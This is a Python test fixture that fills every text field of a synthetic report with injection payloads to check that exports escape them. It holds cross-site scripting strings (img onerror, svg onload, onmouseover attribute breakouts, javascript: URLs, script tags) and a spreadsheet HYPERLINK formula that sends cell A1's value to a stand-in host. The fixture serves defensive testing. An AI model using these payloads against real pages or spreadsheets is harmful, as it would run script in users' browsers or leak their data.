"""A valid report whose every piece of free text that reaches an export is an attack on that export's reader.

``SCRIPTS`` holds what would run script in a page: HTML tags in plain and entity-encoded forms, a ``www.`` run
and an ``http://`` URL whose quotes TimelineJS's auto-linker would rebuild into attributes, a ``javascript:``
URL and a ``<script>``. Each payload, if it ran, would set ``pwned`` (the browser test's page records every
assignment to it). ``FORMULA`` opens a spreadsheet cell as a formula, and ``MARKDOWN`` holds the lines that
are Markdown blocks and the bare links GFM turns into ``<a>``.
"""

from __future__ import annotations

from typing import Any

from tests.synthetic import ReportWriter

SCRIPTS = (
    "<img src=x onerror=pwned=1> "
    "&lt;img src=x onerror=pwned=2&gt; "
    "&#60;svg onload=pwned=3&#62; "
    "&amp;lt;img src=x onerror=pwned=4&amp;gt; "
    "www.a'onmouseover='pwned=5' "
    'http://x.y/"onmouseover="pwned=6" '
    'www.b"onmouseover="pwned=7" '
    '<a href="javascript:pwned=8">javascript:pwned=8</a> '
    "<script>pwned=9</script>"
)
# What must be on screen, as written, where SCRIPTS is shown.
SHOWN = (
    "<img src=x onerror=pwned=1>",
    "&lt;img src=x onerror=pwned=2&gt;",
    "&#60;svg onload=pwned=3&#62;",
    "www.a'onmouseover='pwned=5'",
    'http://x.y/"onmouseover="pwned=6"',
    '<a href="javascript:pwned=8">',
    "<script>pwned=9</script>",
)
FORMULA = '=HYPERLINK("http://x.y/?leak="&A1,"click")'
MARKDOWN = ("---", "***", "___", "===", "# title", "> quote", "- item", "+ item", "* item", "1. item", "```",
            "~~~", "| a | b |", "www.example.com", "https://example.com/x", "mail@example.com")  # fmt: skip


def markup_report_data(hostile: str = SCRIPTS, *, bare: bool = False) -> dict[str, Any]:
    """Two sides, two actors, two sources and three events whose every exported text holds ``hostile``: the
    headline, side labels, actor names, source labels and cues, summaries, quotes, a claim (its words, unit
    and subject) and a caveat with its note. Each text is a label and then ``hostile``, or with ``bare``,
    ``hostile`` alone (what starts a line or a cell)."""
    writer = ReportWriter()
    add = writer.add

    def said(label: str) -> str:
        return hostile if bare else f"{label} {hostile}"

    headline = add(said("Headline"))
    add("\n")
    start = writer.offset
    add("Alice a parlé ")
    saturday = add("samedi")
    add(" soir. ")
    first = {"start": start, "end": writer.offset - 1}
    start = writer.offset
    add("Bob a dit ")
    quote = add(said("«"))
    add(" ")
    cue = add(said("selon"))
    add(", ")
    figure = add(said("2 000 km"))
    add(".")
    second = {"start": start, "end": writer.offset}
    add(" ")
    caveat = add(said("On ne sait pas"))
    add("\n")
    text = writer.text
    for sentence in (first, second):
        sentence["text"] = text[sentence["start"] : sentence["end"]]

    def event(number: int, sentence: dict, **fields: Any) -> dict[str, Any]:
        return {
            "id": f"e{number}", "summary": said(f"Summary {number}"), "kind": "statement",
            "sentences": [sentence], "actors": [], "places": [], "sources": [{"source": "report"}], "time": None,
            "relations": [], "quotes": [], "claims": [], **fields,
        }  # fmt: skip

    return {
        "format": "newsline/1",
        "sides": [{"id": "one", "label": said("Side one")}, {"id": "two", "label": said("Side two")}],
        "document": {
            "id": "markup", "language": "fr", "headline": headline, "text": text,
            "published": {
                "earliest": "2022-09-10T20:00:00+03:00", "estimate": "2022-09-11T12:00:00+03:00",
                "latest": "2022-09-11T23:59:00+03:00", "basis": said("basis"),
            },
        },
        "actors": [
            {"id": "alice", "name": said("Alice"), "role": "speaker", "side": "one", "mentions": []},
            {"id": "bob", "name": said("Bob"), "role": "speaker", "side": "two", "mentions": []},
        ],
        "places": [],
        "sources": [
            {"id": "report", "label": said("The report"), "kind": "report", "mentions": []},
            {"id": "radio", "label": said("Radio"), "kind": "news-agency", "mentions": [cue], "affiliation": "bob"},
        ],
        "events": [
            event(1, first, actors=["alice"], time=saturday),
            event(
                2, second, actors=["bob", "alice"], sources=[{"source": "radio", "cue": cue}, {"source": "report"}],
                quotes=[{"span": quote, "speaker": "bob", "mode": "direct"}],
                claims=[{"id": "c1", "span": figure, "quantity": 2000, "unit": said("km"),
                         "about": said("ground"), "qualifier": "about"}],
            ),
            event(3, second, sources=[{"source": "radio", "cue": cue}]),  # no actor: its side is its source's
        ],
        "caveats": [{"id": "k1", "span": caveat, "claims": ["c1"], "note": said("note")}],
        "not_events": [],
    }  # fmt: skip
